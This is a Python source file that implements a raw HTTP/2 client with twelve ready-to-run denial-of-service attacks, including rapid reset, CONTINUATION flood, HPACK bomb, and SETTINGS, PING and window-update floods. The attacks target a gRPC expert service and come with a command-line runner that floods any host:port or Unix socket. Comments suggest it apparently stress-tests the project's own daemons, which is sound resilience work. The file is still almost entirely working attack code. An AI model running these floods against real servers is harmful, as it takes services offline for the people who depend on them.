# SPDX-License-Identifier: Apache-2.0
"""A raw HTTP/2 client: frames as bytes, and attacks as functions that yield bytes.

An attack is a generator function of one connection. It yields the bytes to send, in order, without
end or until nothing is left to say. `run` sends them as fast as the server takes them, and opens
the next connection when the server closes one. Add an attack: write a generator and name it in
ATTACKS."""

import argparse
import json
import select
import socket
import struct
import sys
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING = 0, 1, 2, 3, 4, 6
WINDOW_UPDATE, CONTINUATION = 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FORWARD, FORWARD_STREAM = b"/moe.v1.ExpertService/Forward", b"/moe.v1.ExpertService/ForwardStream"


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">IBI", len(payload) << 8 | kind, flags, stream) + payload


def text(value):
    assert len(value) < 127
    return bytes([len(value)]) + value


def call_headers(path=FORWARD):
    """The header block of a gRPC call, without the dynamic table."""
    return (b"\x83\x86\x04" + text(path) + b"\x01" + text(b"localhost") + b"\x00" + text(b"te") +
            text(b"trailers") + b"\x00" + text(b"content-type") + text(b"application/grpc"))


def begin():
    return PREFACE + frame(SETTINGS)


# ---------------------------------------------------------------------------- attacks


def rapid_reset():
    yield begin()
    for first in range(1, 1 << 24, 400):
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, call_headers()) +
            frame(RST_STREAM, 0, stream, b"\0\0\0\x08") for stream in range(first, first + 400, 2))


def continuation_flood():
    """A header block that never ends."""
    yield begin() + frame(HEADERS, 0, 1, call_headers())
    while True:
        yield frame(CONTINUATION, 0, 1, b"\x00" + text(b"x") + text(b"v" * 120)) * 100


def hpack_bomb():
    """One entry of 3.9 KB in the table, then one byte for each copy of it."""
    value = b"v" * 3900
    entry = b"\x40" + text(b"x") + b"\x7f" + bytes([0x80 | (3900 - 127) & 0x7f, 3900 - 127 >> 7])
    yield begin() + frame(HEADERS, END_HEADERS, 1, call_headers() + entry + value)
    for stream in range(3, 1 << 24, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, call_headers() + b"\xbe" * 15000)


def settings_flood():
    """Before a request: the relay answers by itself."""
    yield begin()
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 200


def ping_flood():
    yield begin()
    while True:
        yield frame(PING, 0, 0, b"12345678") * 200


def ping_flood_of_a_call():
    """The core answers."""
    yield begin() + frame(HEADERS, END_HEADERS, 1, call_headers())
    while True:
        yield frame(PING, 0, 0, b"12345678") * 200


def unknown_frame_flood():
    """Frames that mean nothing, before a request."""
    yield begin()
    while True:
        yield frame(0x77, 0, 0, bytes(500)) * 200


def empty_data_flood():
    yield begin() + frame(HEADERS, END_HEADERS, 1, call_headers())
    while True:
        yield frame(DATA, 0, 1) * 200


def window_flood():
    yield begin() + frame(HEADERS, END_HEADERS, 1, call_headers())
    while True:
        yield frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\x01") * 1000


def open_streams():
    """Calls without a message. SETTINGS are never acknowledged, so the core does not bound them."""
    yield begin()
    for first in range(1, 1 << 24, 200):
        yield b"".join(frame(HEADERS, END_HEADERS, stream, call_headers())
                       for stream in range(first, first + 200, 2))


def small_data_flood():
    """Messages of 1 MiB in frames of one byte."""
    yield begin() + b"".join(
        frame(HEADERS, END_HEADERS, stream, call_headers()) +
        frame(DATA, 0, stream, struct.pack(">BI", 0, (1 << 20) - 5)) for stream in range(1, 40, 2))
    while True:
        for stream in range(1, 40, 2):
            yield frame(DATA, 0, stream, b"x") * 400


def empty_messages():
    """Whole messages without a byte, 3,000 in a frame, on 100 streams."""
    streams = range(1, 201, 2)
    yield begin() + b"".join(frame(HEADERS, END_HEADERS, stream, call_headers(FORWARD_STREAM))
                             for stream in streams)
    many = struct.pack(">BI", 0, 0) * 3000
    while True:
        for stream in streams:
            yield frame(DATA, 0, stream, many)


ATTACKS = {
    each.__name__.replace("_", "-"): each
    for each in (rapid_reset, continuation_flood, hpack_bomb, settings_flood, ping_flood,
                 ping_flood_of_a_call, unknown_frame_flood, empty_data_flood, window_flood,
                 open_streams, small_data_flood, empty_messages)
}

# ---------------------------------------------------------------------------- running them


def connect(endpoint):
    if endpoint.startswith("unix:"):
        peer = socket.socket(socket.AF_UNIX)
        peer.connect(endpoint[len("unix:"):])
        return peer
    host, port = endpoint.rsplit(":", 1)
    return socket.create_connection((host.strip("[]"), int(port)))


def send_until_closed(peer, attack, end):
    """Bytes that were sent, and whether the server closed the connection."""
    sent = 0
    peer.settimeout(0.5)
    for part in attack():
        try:
            peer.sendall(part)
        except socket.timeout:  # it takes no more, and may go on to do so
            pass
        except OSError:
            return sent, True
        sent += len(part)
        if time.monotonic() >= end:
            break
        try:  # what it says is read, so that it is not blocked
            if select.select([peer], [], [], 0)[0] and peer.recv(1 << 20) == b"":
                return sent, True
        except OSError:
            return sent, True
    return sent, False


def run(endpoint, attack, seconds, connections):
    """One process per connection would be faster than the daemons' cores allow: they take turns."""
    end = time.monotonic() + seconds
    totals = {"bytes": 0, "connections": 0, "closed": 0, "refused": 0}
    while time.monotonic() < end:
        try:
            peers = [connect(endpoint) for _ in range(connections)]
        except OSError:
            totals["refused"] += 1
            time.sleep(0.01)
            continue
        for peer in peers:
            with peer:
                sent, closed = send_until_closed(peer, attack, end)
                totals["bytes"] += sent
                totals["connections"] += 1
                totals["closed"] += closed
    return totals


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("endpoint", help="host:port or unix:/path")
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--seconds", type=float, default=3)
    parser.add_argument("--connections", type=int, default=1)
    options = parser.parse_args()
    totals = run(options.endpoint, ATTACKS[options.attack], options.seconds, options.connections)
    json.dump(totals, sys.stdout)
    print()


if __name__ == "__main__":
    main()
